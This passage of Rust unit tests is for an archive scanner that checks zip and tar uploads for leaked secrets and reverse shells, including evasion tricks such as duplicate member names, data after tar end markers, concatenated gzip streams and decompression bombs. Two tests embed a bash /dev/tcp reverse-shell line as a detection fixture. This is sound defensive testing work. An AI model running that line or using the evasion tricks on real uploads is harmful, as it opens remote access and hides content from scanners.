        let zip = handmade_zip(b"", &[("x", b"")], false, &owner, b"");
        let central = zip
            .windows(4)
            .position(|w| w == [0x50, 0x4b, 0x01, 0x02])
            .unwrap();
        let fixed = &zip[central..central + 46];
        let mut shared = zip[..central].to_vec();
        let count: u16 = 5_000;
        for i in 0..count {
            // Names differ: the reader keeps one entry of a name.
            let mut copy = fixed.to_vec();
            copy[28..30].copy_from_slice(&4u16.to_le_bytes());
            shared.extend_from_slice(&copy);
            shared.extend_from_slice(format!("{i:04}").as_bytes());
        }
        let size = (shared.len() - central) as u32;
        shared.extend_from_slice(&[0x50, 0x4b, 0x05, 0x06, 0, 0, 0, 0]);
        shared.extend_from_slice(&count.to_le_bytes());
        shared.extend_from_slice(&count.to_le_bytes());
        shared.extend_from_slice(&size.to_le_bytes());
        shared.extend_from_slice(&(central as u32).to_le_bytes());
        shared.extend_from_slice(&[0, 0]);
        let report = scanner.scan_upload("d.zip", &shared).unwrap();
        assert!(report.skipped_binary >= 1, "{report:?}");

        // A directory that declares more data than the local header does: the difference
        // may be an entry only a reader of local headers sees.
        let mut stretched = handmade_zip(b"", &[("a.txt", b"nothing here\n")], false, b"", b"");
        stretched[18] = 10;
        let report = scanner.scan_upload("d.zip", &stretched).unwrap();
        assert!(report.skipped_binary >= 1, "{report:?}");
    }

    #[test]
    fn members_of_zip_and_tar_archives_are_scanned_by_name() {
        let dir = tempfile::tempdir().unwrap();
        // A zip with a leak in a nested file, a clean file and a binary one.
        let zip_path = dir.path().join("delivery.zip");
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&zip_path).unwrap());
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("app/.env", options).unwrap();
        zip.write_all(LEAK.as_bytes()).unwrap();
        zip.start_file("app/README.md", options).unwrap();
        zip.write_all(b"nothing here\n").unwrap();
        zip.start_file("app/logo.png", options).unwrap();
        zip.write_all(&[0x89, b'P', b'N', b'G', 0, 0, 1]).unwrap();
        zip.finish().unwrap();
        // A tar.gz with a reverse shell in a script.
        let tgz_path = dir.path().join("release.tar.gz");
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&tgz_path).unwrap(),
            flate2::Compression::default(),
        );
        let mut tar = tar::Builder::new(gz);
        let script = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
        let mut header = tar::Header::new_gnu();
        header.set_size(script.len() as u64);
        header.set_mode(0o755);
        header.set_cksum();
        tar.append_data(&mut header, "bin/start.sh", &script[..])
            .unwrap();
        tar.into_inner().unwrap().finish().unwrap();

        let scanner = Scanner::new(RuleSet::builtin().unwrap());
        let report = scanner.scan_paths(&[dir.path().to_path_buf()]).unwrap();
        let found: Vec<(String, String)> = report
            .findings
            .iter()
            .map(|f| {
                (
                    f.path.rsplit('/').next().unwrap().to_owned(),
                    f.rule.clone(),
                )
            })
            .collect();
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.path.ends_with("release.tar.gz!bin/start.sh")
                    && f.rule == "reverse-shell-dev-tcp"
                    && f.line == 2),
            "{found:?}"
        );
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.path.ends_with("delivery.zip!app/.env") && f.line == 1)
        );
        assert_eq!(report.files_scanned, 3);
        assert_eq!(report.skipped_binary, 1);
    }

    #[test]
    fn tar_entries_of_unknown_types_are_scanned_and_long_names_cut() {
        // GNU tar and Python extract an entry of an unknown type as a regular file, so it is
        // content; a long name (a GNU long-name header) is cut in findings' paths.
        let mut tar = tar::Builder::new(Vec::new());
        let script = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::new(b'A'));
        header.set_size(script.len() as u64);
        header.set_mode(0o755);
        header.set_cksum();
        tar.append_data(&mut header, "bin/odd.sh", &script[..])
            .unwrap();
        let long = format!("{}/start.sh", "d".repeat(5000));
        let mut header = tar::Header::new_gnu();
        header.set_size(script.len() as u64);
        header.set_mode(0o755);
        header.set_cksum();
        tar.append_data(&mut header, &long, &script[..]).unwrap();
        let bytes = tar.into_inner().unwrap();

        let scanner = Scanner::new(RuleSet::builtin().unwrap());
        let report = scanner.scan_upload("release.tar", &bytes).unwrap();
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.path == "release.tar!bin/odd.sh" && f.rule == "reverse-shell-dev-tcp"),
            "{:?}",
            report.findings.iter().map(|f| &f.path).collect::<Vec<_>>()
        );
        let cut = report
            .findings
            .iter()
            .find(|f| f.path.contains("name cut at"))
            .expect("the long-named member is scanned");
        assert!(cut.path.len() < 1200, "{}", cut.path.len());
    }

    #[test]
    fn every_byte_inflated_counts_towards_the_archive_limit() {
        // Oversized members are skipped, but what was inflated to find that out counts: a
        // zip of many of them stops at the expansion limit, not after reading them all.
        let mut buffer = std::io::Cursor::new(Vec::new());
        let mut zip = zip::ZipWriter::new(&mut buffer);
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        let big = vec![b'a'; 64 * 1024];
        for i in 0..40 {
            zip.start_file(format!("big{i}.txt"), options).unwrap();
            zip.write_all(&big).unwrap();
        }
        zip.finish().unwrap();
        let mut scanner = Scanner::new(RuleSet::builtin().unwrap());
        scanner.max_file_size = 1024;
        scanner.max_expanded = 10 * 1025;
        let mut report = crate::scan::Report::default();
        scanner
            .scan_archive_from(
                "bomb.zip",
                super::Kind::Zip,
                std::io::Cursor::new(buffer.into_inner()),
                &mut report,
            )
            .unwrap();
        // Each skipped member inflated 1,025 bytes: the eleventh goes past the limit, the
        // twelfth is refused, and the archive is read no further (of 40 members).
        assert_eq!(report.skipped_large, 12);
        assert_eq!(report.files_scanned, 0);

        // A tar member's declared size counts before it is read (skipping it inflates it).
        scanner.max_expanded = 100 * 1024;
        let scan_tar = |tar: Vec<u8>| {
            let mut report = crate::scan::Report::default();
            scanner
                .scan_archive_from(
                    "bomb.tar",
                    super::Kind::Tar,
                    std::io::Cursor::new(tar),
                    &mut report,
                )
                .unwrap();
            report
        };
        let file = tar::EntryType::Regular;
        let report = scan_tar(tar_of(&[
            ("big0.txt", file, &big),
            ("big1.txt", file, &big),
            ("big2.txt", file, &big),
        ]));
        assert_eq!(
            report.skipped_large, 2,
            "the second member is refused unread"
        );

        // Entries that are not files (directories here) are inflated to be skipped too.
        let dir = tar::EntryType::Directory;
        let report = scan_tar(tar_of(&[
            ("dir0/", dir, &big),
            ("dir1/", dir, &big),
            ("dir2/", dir, &big),
            ("after.txt", file, b"text"),
        ]));
        assert_eq!(
            (report.skipped_large, report.files_scanned),
            (1, 0),
            "stopped at the second directory"
        );
    }

    /// Content other readers hand out is scanned or counted as unscanned, never dropped: a
    /// zip member hidden by a later one of the same name, a "directory" with data, a tar
    /// after another's end marker; and a zip whose directory is too big to hold is not
    /// opened.
    #[test]
    fn content_other_readers_extract_is_never_taken_for_clean() {
        let scanner = Scanner::new(RuleSet::builtin().unwrap());
        let zip_of = |members: &[(&str, &str)]| {
            let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
            for (name, text) in members {
                zip.start_file(*name, zip::write::SimpleFileOptions::default())
                    .unwrap();
                zip.write_all(text.as_bytes()).unwrap();
            }
            zip.finish().unwrap().into_inner()
        };
        // Renames every `from` to `to` (same length) in the local headers and directory.
        let patch = |mut bytes: Vec<u8>, from: &[u8], to: &[u8]| {
            let mut i = 0;
            while i + from.len() <= bytes.len() {
                if &bytes[i..i + from.len()] == from {
                    bytes[i..i + from.len()].copy_from_slice(to);
                }
                i += 1;
            }
            bytes
        };

        // Two members named `app/.env`: the first, which `unzip` writes out, leaks.
        let twins = patch(
            zip_of(&[("app/.env", LEAK), ("app/.enX", "CLEAN=1\n")]),
            b"app/.enX",
            b"app/.env",
        );
        let report = scanner.scan_upload("d.zip", &twins).unwrap();
        assert!(
            !report.findings.is_empty() || report.skipped_binary > 0,
            "a hidden twin looked clean: {report:?}"
        );
        // A name ending in `/` with data.
        let dir = patch(zip_of(&[("app/.envX", LEAK)]), b"app/.envX", b"app/.env/");
        let report = scanner.scan_upload("d.zip", &dir).unwrap();
        assert_eq!(report.findings.len(), 1, "{report:?}");
        // A directory that declares more than can be held is not opened.
        let mut big = zip_of(&[("a.txt", "text")]);
        let end = big.len() - 22;
        assert_eq!(big[end..end + 4], [0x50, 0x4b, 0x05, 0x06]);
        big[end + 12..end + 16].copy_from_slice(&(64u32 << 20).to_le_bytes());
        let report = scanner.scan_upload("d.zip", &big).unwrap();
        assert_eq!(
            (report.skipped_large, report.files_scanned),
            (1, 0),
            "{report:?}"
        );

        // A second tar after the first's end marker (`tar -i` extracts it), or any data
        // there: unscanned. Zeros there are padding.
        let file = tar::EntryType::Regular;
        let mut hidden = tar_of(&[("README", file, b"hello")]);
        hidden.extend(tar_of(&[("app/.env", file, LEAK.as_bytes())]));
        let report = scanner.scan_upload("d.tar", &hidden).unwrap();
        assert_eq!(
            (report.files_scanned, report.skipped_binary),
            (1, 1),
            "{report:?}"
        );
        let mut junk = tar_of(&[("README", file, b"hello")]);
        junk.extend((0..1024u32).map(|i| (i % 251) as u8 | 1));
        let report = scanner.scan_upload("d.tar", &junk).unwrap();
        assert_eq!(
            (report.files_scanned, report.skipped_binary),
            (1, 1),
            "{report:?}"
        );
        let mut padded = tar_of(&[("README", file, b"hello")]);
        padded.extend([0u8; 10240]);
        let report = scanner.scan_upload("d.tar", &padded).unwrap();
        assert_eq!(
            (report.files_scanned, report.skipped_binary),
            (1, 0),
            "{report:?}"
        );
    }

    fn tar_of(entries: &[(&str, tar::EntryType, &[u8])]) -> Vec<u8> {
        let mut tar = tar::Builder::new(Vec::new());
        for (name, kind, data) in entries {
            let mut header = tar::Header::new_gnu();
            header.set_entry_type(*kind);
            header.set_size(data.len() as u64);
            header.set_cksum();
            tar.append_data(&mut header, name, *data).unwrap();
        }
        tar.into_inner().unwrap()
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(data).unwrap();
        gz.finish().unwrap()
    }

    #[test]
    fn an_upload_hides_nothing_behind_tar_tricks_or_allow_comments() {
        let mut scanner = Scanner::new(RuleSet::builtin().unwrap());
        scanner.honour_allow = false;
        // Two gzip members, as `cat a.tar.gz b.tar.gz` makes; the first tar without its end
        // blocks, so that `tar xzf` extracts both.
        let mut first = tar_of(&[("README", tar::EntryType::Regular, b"hello\n")]);
        first.truncate(1024);
        let second = tar_of(&[("x/.env", tar::EntryType::Continuous, LEAK.as_bytes())]);
        let mut upload = gzip(&first);
        upload.extend(gzip(&second));
        let report = scanner.scan_upload("release.tar.gz", &upload).unwrap();
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.path == "release.tar.gz!x/.env"),
            "{:?}",
            report.findings
        );
        // The submitter's allow comment is not honoured on uploads.
        let line = LEAK.replace('\n', " # chaperone:allow\n");
        let report = scanner.scan_upload("env.txt", line.as_bytes()).unwrap();
        assert_eq!(report.findings.len(), 1, "{:?}", report.findings);
        scanner.honour_allow = true;
        let report = scanner.scan_upload("env.txt", line.as_bytes()).unwrap();
        assert!(report.findings.is_empty());
    }

    #[test]
    fn a_tar_extension_header_cannot_expand_past_the_limit() {
        // A GNU long name of 1 MiB: the tar crate reads it whole before the entry it names
        // reaches the scan, so only the bound on the stream stops it.
        let name = vec![b'n'; 1024 * 1024];
        let tar = tar_of(&[
            ("././@LongLink", tar::EntryType::GNULongName, &name),
            ("after.env", tar::EntryType::Regular, LEAK.as_bytes()),
        ]);
        let mut scanner = Scanner::new(RuleSet::builtin().unwrap());
        scanner.max_expanded = 64 * 1024;
        let report = scanner.scan_upload("long.tar", &tar).unwrap();
        assert_eq!((report.skipped_large, report.files_scanned), (1, 0));
        scanner.max_expanded = 4 * 1024 * 1024;
        let report = scanner.scan_upload("long.tar", &tar).unwrap();
        assert_eq!((report.skipped_large, report.files_scanned), (0, 1));
    }

    #[test]
    fn an_archive_lists_a_bounded_number_of_findings_but_every_vault_value() {
        let mut buffer = std::io::Cursor::new(Vec::new());
        let mut zip = zip::ZipWriter::new(&mut buffer);
        let options = zip::write::SimpleFileOptions::default();
        for i in 0..20 {
            zip.start_file(format!("part{i}.csv"), options).unwrap();
            zip.write_all(&b"536-22-8709\n".repeat(5)).unwrap();
        }
        // A vault value in the last member, after far more findings than the limit.
        zip.start_file("last/.env", options).unwrap();
        zip.write_all(b"DB=Vault-Secret-Zq81-Lm02\n536-22-8709\n")
            .unwrap();
        zip.finish().unwrap();
        let mut scanner = Scanner::new(RuleSet::builtin().unwrap()).with_known_values(&[(
            b"Vault-Secret-Zq81-Lm02".as_slice(),
            "prod/db#password".to_owned(),
        )]);
        scanner.max_findings = 12;
        let report = scanner
            .scan_upload("data.zip", &buffer.into_inner())
            .unwrap();
        let rules: Vec<(&str, &str)> = report
            .findings
            .iter()
            .map(|f| (f.path.as_str(), f.rule.as_str()))
            .collect();
        // Five, five, then two of the third member's five and its own note; the archive's
        // note; then, of everything after, the vault value alone.
        assert_eq!(report.findings.len(), 15, "{rules:?}");
        assert_eq!(
            rules[12..],
            [
                ("data.zip!part2.csv", crate::scan::TOO_MANY),
                ("data.zip", crate::scan::TOO_MANY),
                ("data.zip!last/.env", crate::scan::KNOWN_VALUE),
            ]
        );
        assert_eq!(report.files_scanned, 21, "every member is still read");
        assert!(
            report.findings[14].context.is_empty(),
            "a member searched for vault values alone shows no line"
        );
    }

    #[test]
    fn how_often_a_vault_value_occurs_does_not_decide_where_an_archive_stops() {
        // Findings of one's own past the limit, then guesses, each many times, each followed
        // by a binary member: the binaries counted must not say which guess ran the vault
        // values' budget out.
        let upload = |stored_first: bool| {
            let mut buffer = std::io::Cursor::new(Vec::new());
            let mut zip = zip::ZipWriter::new(&mut buffer);
            let options = zip::write::SimpleFileOptions::default();
            zip.start_file("own.csv", options).unwrap();
            zip.write_all(&b"536-22-8709\n".repeat(20)).unwrap();
            let guesses: [&[u8]; 2] = if stored_first {
                [b"Vault-Secret-Zq81-Lm02", b"Guess-Secret-Zq81-Lm07"]
            } else {
                [b"Guess-Secret-Zq81-Lm07", b"Vault-Secret-Zq81-Lm02"]
            };
            for (i, guess) in guesses.iter().enumerate() {
                zip.start_file(format!("guess{i}.txt"), options).unwrap();
                let mut line = guess.to_vec();
                line.push(b'\n');
                zip.write_all(&line.repeat(30)).unwrap();
                zip.start_file(format!("blob{i}.bin"), options).unwrap();
                zip.write_all(b"\0\0\0\0binary").unwrap();
            }
            zip.finish().unwrap();
            let mut scanner = Scanner::new(RuleSet::builtin().unwrap()).with_known_values(&[(
                b"Vault-Secret-Zq81-Lm02".as_slice(),
                "prod/db#password".to_owned(),
            )]);
            scanner.max_findings = 12;
            let report = scanner
                .scan_upload("data.zip", &buffer.into_inner())
                .unwrap();
            let others = report
                .findings
                .iter()
                .filter(|f| f.rule != crate::scan::KNOWN_VALUE)
                .count();
            (report.skipped_binary, report.files_scanned, others)
        };
        assert_eq!(upload(true), upload(false));
        assert_eq!(upload(true).0, 2, "both binaries are counted");
    }

    #[test]
    fn oversized_members_are_skipped_not_read_whole() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("big.tar");
        let mut tar = tar::Builder::new(std::fs::File::create(&path).unwrap());
        let big = vec![b'a'; 4096];
        let mut header = tar::Header::new_gnu();
        header.set_size(big.len() as u64);
        header.set_cksum();
        tar.append_data(&mut header, "big.txt", &big[..]).unwrap();
        tar.finish().unwrap();
        let mut scanner = Scanner::new(RuleSet::builtin().unwrap());
        scanner.max_file_size = 1024;
        let report = scanner.scan_paths(&[path]).unwrap();
        assert_eq!((report.files_scanned, report.skipped_large), (0, 1));
    }
}
